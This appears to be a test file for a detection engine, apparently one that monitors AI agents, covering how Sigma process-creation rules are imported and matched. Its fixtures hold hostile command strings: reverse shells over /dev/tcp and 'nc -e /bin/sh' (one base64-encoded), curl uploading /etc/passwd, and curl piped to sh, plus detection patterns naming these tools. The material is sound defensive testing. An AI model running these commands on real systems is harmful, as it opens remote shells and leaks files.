"""Sigma import: translation of process_creation rules into vigiles conditions, and their evaluation."""
from __future__ import annotations

import textwrap

import pytest

pytest.importorskip("sigma")

from vigiles.analysis import condition as cond  # noqa: E402
from vigiles.analysis import rules as rules_mod  # noqa: E402
from vigiles.analysis.engine import Engine  # noqa: E402
from vigiles.analysis.rules import RuleSet  # noqa: E402
from vigiles.analysis.sigma import is_sigma_text, load_sigma  # noqa: E402
from vigiles.events import from_dict  # noqa: E402

HEAD = """\
title: {title}
id: {id}
description: A test rule.
logsource:
    product: linux
    category: process_creation
level: {level}
tags: [{tags}]
"""


def sigma(detection: str, title: str = "Test rule", id: str = "11111111-2222-3333-4444-555555555555",
          level: str = "high", tags: str = "attack.execution, attack.t1059.004") -> str:
    return HEAD.format(title=title, id=id, level=level, tags=tags) + "detection:\n" + textwrap.indent(
        textwrap.dedent(detection).strip("\n"), "    ") + "\n"


def load(tmp_path, *texts: str):
    paths = []
    for index, text in enumerate(texts):
        path = tmp_path / f"rule{index}.yml"
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return load_sigma(paths)


def one(tmp_path, detection: str, **kw):
    rules, problems = load(tmp_path, sigma(detection, **kw))
    assert problems == []
    assert len(rules) == 1
    return rules[0]


def proc(argv, exe="/usr/bin/x", **extra):
    return from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": argv, "exe": exe, "parent_exe": "/bin/bash",
                      **extra})


def action(command: str):
    return from_dict({"kind": "action", "ts": 0, "tool": "bash", "input": command})


def fires(rule, event) -> bool:
    return any(f.rule == rule.id for f in Engine(RuleSet(rules=[rule])).analyze(event))


# -- metadata ---------------------------------------------------------------------------------------
def test_metadata(tmp_path):
    rule = one(tmp_path, """
        selection:
            Image|endswith: /awk
        condition: selection
    """, tags="attack.persistence, attack.t1053.003, attack.privilege-escalation", level="informational")
    assert rule.id == "sigma:11111111-2222-3333-4444-555555555555"
    assert rule.title == "Test rule"
    assert rule.origin == "sigma"
    assert rule.description == "A test rule."
    assert rule.severity == "info"
    assert rule.attack == ["T1053.003"]
    assert rule.category == "persistence"  # the first tactic that maps
    assert rule.kinds == {"process", "action"}


@pytest.mark.parametrize("tags, category", [
    ("attack.defense-evasion", "supervision_evasion"),
    ("attack.credential-access, attack.t1552.001", "credential_access"),
    ("attack.discovery", "reconnaissance"),
    ("attack.exfiltration", "self_replication"),
    ("attack.command-and-control", "network_access"),
    ("attack.impact, attack.t1496", "compute_acquisition"),
    ("attack.impact, attack.t1485", "supervision_evasion"),
    ("attack.execution", "supervision_evasion"),
])
def test_category_from_tactic(tmp_path, tags, category):
    rule = one(tmp_path, "sel:\n    Image|endswith: /awk\ncondition: sel", tags=tags)
    assert rule.category == category


def test_id_falls_back_to_title(tmp_path):
    text = sigma("sel:\n    Image|endswith: /awk\ncondition: sel").replace(
        "id: 11111111-2222-3333-4444-555555555555\n", "")
    rules, problems = load(tmp_path, text)
    assert problems == [] and rules[0].id == "sigma:Test rule"


# -- field mapping ----------------------------------------------------------------------------------
def test_field_mapping(tmp_path):
    rule = one(tmp_path, """
        selection:
            Image|endswith: /curl
            CommandLine|contains: upload
            ParentImage|endswith: /python3
            ParentCommandLine|contains: agent.py
            User: root
            CurrentDirectory|startswith: /srv/
        condition: selection
    """)
    node = cond.parse(rule.condition, {}, set())
    assert cond.field_names(node, {}) == {"cmd.image", "cmd.line", "proc.pexe", "proc.pcmdline", "proc.user",
                                          "proc.cwd"}
    event = from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": ["curl", "-T", "x", "http://h/UPLOAD"],
                       "exe": "/usr/bin/curl", "parent_exe": "/usr/bin/python3",
                       "parent_cmdline": "python3 agent.py", "user": "root", "cwd": "/srv/app"})
    assert fires(rule, event)
    other = from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": ["curl", "-T", "x", "http://h/upload"],
                       "exe": "/usr/bin/curl", "parent_exe": "/usr/bin/python3",
                       "parent_cmdline": "python3 agent.py", "user": "alice", "cwd": "/srv/app"})
    assert not fires(rule, other)


def test_untranslatable_field_is_reported(tmp_path):
    rules, problems = load(tmp_path, sigma("""
        selection:
            Image|endswith: /bash
            OriginalFileName: bash
            Product: GNU
        condition: selection
    """, title="Needs PE metadata"))
    assert rules == []
    assert len(problems) == 1
    assert problems[0].endswith("Needs PE metadata: field not supported: OriginalFileName; field not supported: Product")
    assert problems[0].startswith(str(tmp_path / "rule0.yml") + ": ")


# -- values: case, wildcards, modifiers -------------------------------------------------------------
def test_case_insensitive_by_default_and_cased(tmp_path):
    plain = one(tmp_path, "sel:\n    CommandLine|contains: 'DISABLE'\ncondition: sel")
    assert fires(plain, action("systemctl disable auditd"))
    assert fires(plain, proc(["systemctl", "Disable", "auditd"]))
    cased = one(tmp_path, "sel:\n    CommandLine|contains|cased: 'DISABLE'\ncondition: sel")
    assert "cmd.line contains" in cased.condition
    assert not fires(cased, action("systemctl disable auditd"))
    assert fires(cased, action("systemctl DISABLE auditd"))


def test_plain_value_is_whole_value(tmp_path):
    rule = one(tmp_path, "sel:\n    CommandLine: 'id'\ncondition: sel")
    assert rule.condition == 'cmd.line ieq "id"'
    assert fires(rule, action("ID"))
    assert not fires(rule, action("id -u"))


def test_wildcards(tmp_path):
    rule = one(tmp_path, "sel:\n    CommandLine: 'curl *|*sh'\ncondition: sel")
    assert fires(rule, proc(["curl", "http://x/a|sh"]))
    assert fires(rule, proc(["CURL", "-s", "x", "|", "bash"]))
    assert not fires(rule, proc(["wget", "http://x/a|sh"]))
    assert not fires(rule, proc(["curl", "http://x/a|sh", "-o", "y"]))  # anchored at both ends
    single = one(tmp_path, "sel:\n    Image: '/usr/bin/python3.?'\ncondition: sel")
    assert fires(single, proc(["python3.9", "-V"], exe="/usr/bin/python3.9"))
    assert not fires(single, proc(["python3.11", "-V"], exe="/usr/bin/python3.11"))
    leading = one(tmp_path, "sel:\n    Image: '*/nc'\ncondition: sel")
    assert leading.condition == 'cmd.image iendswith "/nc"'
    escaped = one(tmp_path, r"sel:" "\n" r"    CommandLine|contains: 'what\?'" "\ncondition: sel")
    assert escaped.condition == 'cmd.line icontains "what?"'


def test_startswith_endswith_all(tmp_path):
    rule = one(tmp_path, """
        sel:
            CommandLine|startswith: 'tar '
            CommandLine|endswith: '.tgz'
            CommandLine|contains|all:
                - ' -c'
                - ' -z'
        condition: sel
    """)
    assert fires(rule, action("tar -c -z -f /tmp/home.tgz"))
    assert not fires(rule, action("tar -c -f /tmp/home.tgz"))  # |all: every value
    assert not fires(rule, action("tar -c -z -f /tmp/home.tar"))


def test_list_of_values_is_or(tmp_path):
    rule = one(tmp_path, """
        sel:
            Image|endswith:
                - /nc
                - /ncat
        condition: sel
    """)
    assert rule.condition == 'cmd.image iendswith ("/nc", "/ncat")'
    assert fires(rule, action("ncat -l 4444"))
    assert fires(rule, action("/usr/local/bin/nc -l 4444"))
    assert not fires(rule, action("netcat -l 4444"))


def test_regex_with_flags(tmp_path):
    rule = one(tmp_path, r"""
        sel:
            CommandLine|re: '\s-[FTd]\s'
        condition: sel
    """)
    assert fires(rule, action("curl -F x=@/etc/passwd http://h"))
    assert not fires(rule, action("curl -f http://h"))  # re is case-sensitive
    ci = one(tmp_path, r"""
        sel:
            CommandLine|re|i: 'chmod\s+\+x'
        condition: sel
    """)
    assert ci.condition.startswith('cmd.line regex "(?i)')
    assert fires(ci, action("CHMOD +x /tmp/a"))


def test_regex_re2_rejects_is_reported(tmp_path):
    rules, problems = load(tmp_path, sigma(r"""
        sel:
            CommandLine|re: '(?=secret)\w+'
        condition: sel
    """, title="Lookahead"))
    # pySigma itself compiles regexes (with RE2 by default); either way the rule is reported.
    assert rules == [] and len(problems) == 1
    assert "Lookahead: " in problems[0] and "(?=secret)" in problems[0]


def test_base64_and_base64offset(tmp_path):
    rule = one(tmp_path, """
        sel:
            CommandLine|base64offset|contains: 'bash -i'
        condition: sel
    """)
    import base64
    for prefix in ("", "x", "xy"):
        encoded = base64.b64encode((prefix + "bash -i >& /dev/tcp/h/1 0>&1").encode()).decode()
        assert fires(rule, action(f"echo {encoded} | base64 -d"))
    plain = one(tmp_path, "sel:\n    CommandLine|base64|contains: 'whoami'\ncondition: sel")
    assert fires(plain, proc(["echo", base64.b64encode(b"whoami").decode()]))


def test_windash(tmp_path):
    rule = one(tmp_path, "sel:\n    CommandLine|windash|contains: ' -exec '\ncondition: sel")
    assert fires(rule, action("find / -exec sh \\;"))
    assert fires(rule, proc(["find", "/", "/exec", "sh"]))


def test_exists_and_null(tmp_path):
    rule = one(tmp_path, """
        sel:
            Image|endswith: /sh
            ParentCommandLine|exists: true
        condition: sel
    """)
    assert fires(rule, proc(["sh"], exe="/bin/sh", parent_cmdline="sshd: root"))
    assert not fires(rule, proc(["sh"], exe="/bin/sh"))
    null = one(tmp_path, """
        sel:
            Image|endswith: /sh
            ParentCommandLine: null
        condition: sel
    """)
    assert "not proc.pcmdline exists" in null.condition
    assert fires(null, proc(["sh"], exe="/bin/sh"))
    assert not fires(null, proc(["sh"], exe="/bin/sh", parent_cmdline="sshd: root"))


@pytest.mark.parametrize("detection, reason", [
    ("sel:\n    CommandLine|fieldref: Image\ncondition: sel", "modifier not supported: fieldref"),
    ("sel:\n    CommandLine|cidr: 10.0.0.0/8\ncondition: sel", "modifier not supported: cidr"),
    ("sel:\n    CommandLine|wide|base64offset|contains: x\ncondition: sel", "modifier not supported: wide"),
    ("sel:\n    CommandLine|expand: '%admins%'\ncondition: sel", "modifier not supported: expand"),
    ("sel:\n    CommandLine|nosuch: x\ncondition: sel", "invalid Sigma"),
])
def test_unsupported_modifiers_reported(tmp_path, detection, reason):
    rules, problems = load(tmp_path, sigma(detection, title="Bad"))
    assert rules == []
    assert len(problems) == 1 and f"Bad: {reason}" in problems[0]


# -- conditions -------------------------------------------------------------------------------------
def test_one_of_and_all_of(tmp_path):
    one_of = one(tmp_path, """
        selection_curl:
            Image|endswith: /curl
            CommandLine|contains: ' -T '
        selection_scp:
            Image|endswith: /scp
        condition: 1 of selection_*
    """)
    assert fires(one_of, action("curl -T notes.txt http://h/"))
    assert fires(one_of, action("scp notes.txt h:"))
    assert not fires(one_of, action("curl http://h/"))
    all_of = one(tmp_path, """
        selection_img:
            Image|endswith: /curl
        selection_cli:
            CommandLine|contains: ' -T '
        condition: all of selection_*
    """)
    assert fires(all_of, action("curl -T notes.txt http://h/"))
    assert not fires(all_of, action("curl http://h/"))
    them = one(tmp_path, """
        a:
            Image|endswith: /curl
        b:
            CommandLine|contains: ' -T '
        condition: all of them
    """)
    assert fires(them, action("curl -T notes.txt http://h/"))
    assert not fires(them, action("wget -T 5 http://h/"))


def test_not_and_parentheses(tmp_path):
    rule = one(tmp_path, """
        selection_nc:
            Image|endswith: /nc
        filter_listen:
            CommandLine|contains: ' -l'
        selection_scan:
            Image|endswith: /nmap
        condition: (selection_nc and not filter_listen) or selection_scan
    """)
    assert fires(rule, action("nc h 80"))
    assert not fires(rule, action("nc -lvp 4444"))
    assert fires(rule, action("nmap -sS 10.0.0.0/24"))


def test_filters_on_process_only_fields(tmp_path):
    rule = one(tmp_path, """
        selection:
            Image|endswith: /whoami
        filter_main:
            ParentImage|endswith: /sshd
        condition: selection and not 1 of filter_main*
    """)
    assert fires(rule, proc(["whoami"], exe="/usr/bin/whoami"))
    sshd = from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": ["whoami"], "exe": "/usr/bin/whoami",
                      "parent_exe": "/usr/sbin/sshd"})
    assert not fires(rule, sshd)
    assert fires(rule, action("whoami"))  # an action has no parent: the filter cannot exclude it


def test_keywords(tmp_path):
    rule = one(tmp_path, """
        keywords:
            - 'nc -e'
            - '*/dev/tcp/*'
        condition: keywords
    """)
    assert "cmd.line" in rule.condition and "evt.text" in rule.condition
    assert fires(rule, action("NC -e /bin/sh h 4444"))
    assert fires(rule, action("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
    assert fires(rule, proc(["bash", "-c", "exec 3<>/dev/tcp/h/80"], exe="/bin/bash"))
    assert not fires(rule, action("echo hello"))


# -- process and action events ------------------------------------------------------------------------
def test_commandline_is_per_simple_command_on_actions(tmp_path):
    piped = one(tmp_path, "sel:\n    CommandLine|contains: '| sh'\ncondition: sel")
    # A process's argv may carry the pipe as text (bash -c); an action is split into simple commands.
    assert fires(piped, proc(["bash", "-c", "curl x | sh"], exe="/bin/bash"))
    assert not fires(piped, action("curl x | sh"))
    both = one(tmp_path, """
        sel:
            Image|endswith: /curl
            CommandLine|contains: 'http'
        condition: sel
    """)
    assert fires(both, action("cd /tmp && curl -sO http://h/x && chmod +x x"))
    assert fires(both, proc(["curl", "http://h/x"], exe="/usr/bin/curl"))
    assert not fires(both, proc(["wget", "http://h/x"], exe="/usr/bin/wget"))


def test_image_on_process_events_is_the_exe(tmp_path):
    rule = one(tmp_path, "sel:\n    Image|startswith: '/tmp/'\ncondition: sel")
    assert fires(rule, proc(["/tmp/payload"], exe="/tmp/payload"))
    assert fires(rule, action("/tmp/payload --fast"))
    assert not fires(rule, action("payload --fast"))  # a bare name is looked up in the bin dirs


def test_on_a_process_a_sigma_rule_sees_the_process_not_what_it_runs(tmp_path):
    curl = one(tmp_path, "sel:\n    Image|endswith: /curl\n    CommandLine|contains: http\ncondition: sel")
    wrapped = proc(["bash", "-c", "curl -s http://h/x"], exe="/bin/bash")
    assert not fires(curl, wrapped)  # Sigma's Image is the process's own: bash here, not the curl it starts
    assert fires(curl, proc(["curl", "-s", "http://h/x"], exe="/usr/bin/curl"))
    assert fires(curl, action("bash -c 'curl -s http://h/x'"))  # an action is read into its commands
    engine = Engine(RuleSet(rules=[curl]))
    assert engine.argv_unread  # every process rule is Sigma's: argv is not read for what it runs
    from vigiles.analysis.rules import load as builtin
    mixed = Engine(RuleSet(rules=[*builtin().rules, curl]))
    assert not mixed.argv_unread
    found = {f.rule for f in mixed.analyze(proc(["bash", "-c", "curl -s http://198.51.100.2/x | sh"], exe="/bin/bash"))}
    assert "remote_script_to_shell" in found and curl.id not in found  # the pack still reads what argv runs


def test_an_exec_is_not_read_for_signs_no_shell_made(tmp_path):
    """Where every process rule sees only the process (Engine.argv_unread), an argv with escapes,
    `$` or a glob is passed over unless a rule's literals are in it: no shell builds its words."""
    curl = one(tmp_path, "sel:\n    Image|endswith: /curl\n    CommandLine|contains: http\ncondition: sel")
    engine = Engine(RuleSet(rules=[curl]))
    for argv in (["printf", "\\x6e\\x63"], ["echo", "$HOME", "a?b", "[ab]"], ["awk", "{print $1}"]):
        assert engine.analyze(proc(argv, exe="/usr/bin/" + argv[0])) == []
    assert engine.parsed == 0
    # narrowed by every literal the rule needs, though the text has a glob and an escape
    assert engine.analyze(proc(["wget", "-O", "a?b", "\\x41", "http://h/x"], exe="/usr/bin/wget")) == []
    assert engine.parsed == 0
    hit = engine.analyze(proc(["curl", "-o", "a?b", "\\x41", "http://h/x"], exe="/usr/bin/curl"))
    assert [f.rule for f in hit] == [curl.id] and engine.parsed == 1


# -- prefilter ----------------------------------------------------------------------------------------
def test_needles(tmp_path):
    rule = one(tmp_path, """
        sel:
            Image|endswith: /awk
            CommandLine|contains: "BEGIN {system"
        condition: sel
    """)
    # of a CommandLine value with a space, only its longest piece: the text may hold a tab there
    assert rule.needles == {"{system"}
    image_only = one(tmp_path, "sel:\n    Image|endswith:\n        - /gawk\n        - /mawk\ncondition: sel")
    assert image_only.needles == {"gawk", "mawk"}  # the program name, which the text shows
    quoted = one(tmp_path, "sel:\n    CommandLine|contains: \"-c 'import\"\ncondition: sel")
    assert quoted.needles == {"import"}  # the engine drops quotes from the text it scans
    parent = one(tmp_path, """
        sel:
            ParentImage|endswith: /java
            Image|endswith: /sh
        condition: sel
    """)
    assert parent.needles == {"sh"}  # a parent's exe is not in the child's text
    bin_dir = one(tmp_path, "sel:\n    Image|contains: '/bin/'\ncondition: sel")
    assert bin_dir.needles is None  # every bare name is in a bin dir
    wild = one(tmp_path, "sel:\n    CommandLine: '*curl *|*sh'\ncondition: sel")
    assert wild.needles == {"curl"}
    regex = one(tmp_path, r"sel:" "\n" r"    CommandLine|re: '\s-O\s'" "\ncondition: sel")
    assert regex.needles == {"-o"}  # two characters, where the regex has no longer literal
    # a process event's text holds its executable and its parent's: Image values are needles there
    assert parent.kind_needles == {"process": {"/java"}}
    assert bin_dir.kind_needles == {"process": {"/bin/"}}

    engine = Engine(RuleSet(rules=[rule, image_only, wild]))
    assert engine.analyze(action("ls -la /srv")) == []
    assert engine.stats["skipped_by_prefilter"] == 1


def test_every_part_of_a_selection_is_required_before_reading(tmp_path):
    """A process event holds its parent's exe: /bash is in nearly every one, so the rule's other
    part (an executable under /tmp/) must be in the text too before the event is read."""
    rule = one(tmp_path, """
        sel:
            ParentImage|endswith: /bash
            Image|startswith: /tmp/
        condition: sel
    """)
    assert rule.kind_requires == {"process": ((("/bash",), ("/tmp/",)),)}
    engine = Engine(RuleSet(rules=[rule]))
    assert engine.analyze(proc(["ls", "-la"], exe="/usr/bin/ls")) == []
    assert engine.stats["parsed"] == 0
    assert [f.rule for f in engine.analyze(proc(["/tmp/x"], exe="/tmp/x"))] == [rule.id]


def test_condition_text_parses_back(tmp_path):
    rule = one(tmp_path, r"""
        selection_a:
            CommandLine|contains|all:
                - 'a"b'
                - 'c\d'
            Image: '/opt/*/x?'
        selection_b:
            CommandLine|re: '^x\s"'
        filter:
            User: null
        condition: 1 of selection_* and not filter
    """)
    node = cond.parse(rule.condition, {}, set())
    reparsed = cond.compile_node(node, {})
    event = proc(["/opt/app/x1", 'a"b', "c\\d"], exe="/opt/app/x1", user="bob")
    assert fires(rule, event)
    from vigiles.analysis.fields import Subject
    from vigiles.analysis.shell import Session, ShellReader
    cmd = ShellReader().read_argv(event.argv, Session())[0]
    assert reparsed(Subject(event, cmd, " ".join(event.argv)), cond.Hits())


# -- files ----------------------------------------------------------------------------------------------
def test_other_logsources_and_rest_of_file(tmp_path):
    windows = sigma("sel:\n    Image|endswith: '\\cmd.exe'\ncondition: sel", title="Windows",
                    id="22222222-2222-3333-4444-555555555555").replace("product: linux", "product: windows")
    network = sigma("sel:\n    DestinationPort: 4444\ncondition: sel", title="Net",
                    id="33333333-2222-3333-4444-555555555555").replace("process_creation", "network_connection")
    good = sigma("sel:\n    Image|endswith: /nc\ncondition: sel", title="Good")
    rules, problems = load(tmp_path, windows + "---\n" + network + "---\n" + good)
    assert [r.title for r in rules] == ["Good"]
    assert problems == [
        f"{tmp_path / 'rule0.yml'}: Windows: logsource not supported: product=windows, category=process_creation",
        f"{tmp_path / 'rule0.yml'}: Net: logsource not supported: product=linux, category=network_connection",
    ]


def test_invalid_condition_and_yaml(tmp_path):
    rules, problems = load(tmp_path, sigma("sel:\n    Image|endswith: /nc\ncondition: sel and missing",
                                           title="Dangling"), "title: [unclosed\n")
    assert rules == []
    assert len(problems) == 2
    assert "Dangling: " in problems[0] and "missing" in problems[0]
    assert problems[1].startswith(str(tmp_path / "rule1.yml") + ": -: not a valid Sigma file")


def test_duplicate_ids(tmp_path):
    text = sigma("sel:\n    Image|endswith: /nc\ncondition: sel")
    rules, problems = load(tmp_path, text, text)
    assert len(rules) == 1 and "duplicate id" in problems[0]


def test_is_sigma_text():
    assert is_sigma_text(sigma("sel:\n    Image|endswith: /nc\ncondition: sel"))
    assert not is_sigma_text("- rule: x\n  condition: cmd.name = nc\n")
    assert not is_sigma_text("# comment\n---\n- list: x\n  items: [a]\n")
    assert not is_sigma_text("just: a mapping\n")


def test_rules_load_routes_sigma_files(tmp_path):
    (tmp_path / "ours.yaml").write_text(textwrap.dedent("""\
        - rule: our_nc
          category: network_access
          severity: low
          condition: cmd.name = nc
    """), encoding="utf-8")
    (tmp_path / "theirs.yml").write_text(sigma("sel:\n    Image|endswith: /ncat\ncondition: sel"), encoding="utf-8")
    (tmp_path / "bad.yml").write_text(sigma("sel:\n    Hashes: abc\ncondition: sel", title="Hashes",
                                            id="44444444-2222-3333-4444-555555555555"), encoding="utf-8")
    ruleset = rules_mod.load([tmp_path], builtin=False)
    assert sorted((r.id, r.origin) for r in ruleset.rules) == [
        ("our_nc", "vigiles"), ("sigma:11111111-2222-3333-4444-555555555555", "sigma")]
    assert ruleset.problems == [f"{tmp_path / 'bad.yml'}: Hashes: field not supported: Hashes"]
    findings = Engine(ruleset).analyze(action("ncat -l 4444; nc h 80"))
    assert {f.rule for f in findings} == {"our_nc", "sigma:11111111-2222-3333-4444-555555555555"}


def test_substring_needles_survive_the_builtin_pack(tmp_path):
    """A Sigma `contains` value must keep substring semantics when loaded next to our own rules.

    Our pack may use the same literal as a whole-word program name (`python`); the prefilter must
    not then skip `python3 -c ...` for the Sigma rule, whose CommandLine|contains 'python' holds.
    """
    (tmp_path / "java.yml").write_text(sigma("""
        selection:
            ParentImage|endswith: /java
            CommandLine|contains:
                - python
                - bash
        condition: selection
    """), encoding="utf-8")
    ruleset = rules_mod.load([tmp_path])
    event = from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": ["python3", "-c", "print(1)"],
                       "exe": "/usr/bin/python3", "parent_exe": "/usr/lib/jvm/bin/java"})
    assert "sigma:11111111-2222-3333-4444-555555555555" in {f.rule for f in Engine(ruleset).analyze(event)}


def test_requires_hold_whatever_the_white_space(tmp_path):
    """`cmd.line` is rebuilt with single spaces; the searched text keeps a tab."""
    rule = one(tmp_path, """
        sel:
            Image|endswith: /nc
            CommandLine|contains|all: [' -e ', '/bin/sh']
        condition: sel
    """)
    assert fires(rule, action("nc\t-e /bin/sh 10.0.0.1 4444"))


def test_a_pipe_in_a_value_keeps_its_needle_whole(tmp_path):
    rule = one(tmp_path, "sel:\n    CommandLine|contains: '| bash '\ncondition: sel")
    assert rule.needles == {"|bash"}  # the searched text has no space around a pipe either
